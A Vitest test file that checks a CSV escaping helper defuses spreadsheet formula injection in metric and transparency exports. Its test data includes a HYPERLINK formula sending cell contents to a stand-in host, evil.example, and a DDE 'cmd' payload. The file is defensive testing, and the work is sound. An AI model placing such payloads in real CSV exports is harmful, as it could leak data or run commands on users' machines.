import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../collectors/finances/csv.ts';
import { csvCell } from '../../src/lib/server/csv.ts';
import { toCsv as metricCsv } from '../../src/lib/server/metrics/index.ts';
import { csvCell as reportCell } from '../../src/lib/server/transparency/export.ts';

/** OWASP "CSV Injection": the characters a spreadsheet reads as the start of a formula. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

describe('CSV cells: one helper defuses formulas in every CSV', () => {
  it('prefixes an apostrophe to any string cell that starts like a formula, and quotes as RFC 4180 asks', () => {
    for (const t of TRIGGERS) {
      const raw = `${t}SUM(1+1)`;
      // Read back by an independent RFC 4180 parser: the cell holds the text, defused, and nothing else.
      const [rec] = parseCsv(`${csvCell(raw)}\r\n`, ',').records;
      expect(rec.fields, JSON.stringify(raw)).toEqual([`'${raw}`]);
    }
    expect(csvCell('=HYPERLINK("http://evil.example/?d="&A1,"Click")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")"`
    );
    expect(csvCell('mastodon')).toBe('mastodon');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell(null)).toBe('');
  });

  it('numbers we write stay numbers (a negative change is not a formula); strings that look like one are text', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell(-12n)).toBe('-12');
    expect(csvCell(true)).toBe('true');
    expect(csvCell('-5')).toBe("'-5");
  });

  it('the metric export and the transparency export use it for every column', () => {
    const hostile = ['=cmd|"/c calc"!A1', '@SUM(1+1)', '+1+1', '-1+1', '\tx', '\rx', 'plain', -3, null];
    const csv = metricCsv({
      columns: [{ key: 'v', title: 'V', unit: 'text' }],
      rows: hostile.map((v) => [v])
    });
    expect(csv).toBe(['v', ...hostile.map(csvCell)].join('\r\n') + '\r\n');
    // The report's CSV: every column, whether it was marked as text or not.
    for (const v of hostile) {
      expect(reportCell(v as string | number | null)).toBe(csvCell(v));
      expect(reportCell(v as string | number | null, true)).toBe(csvCell(v));
    }
  });
});
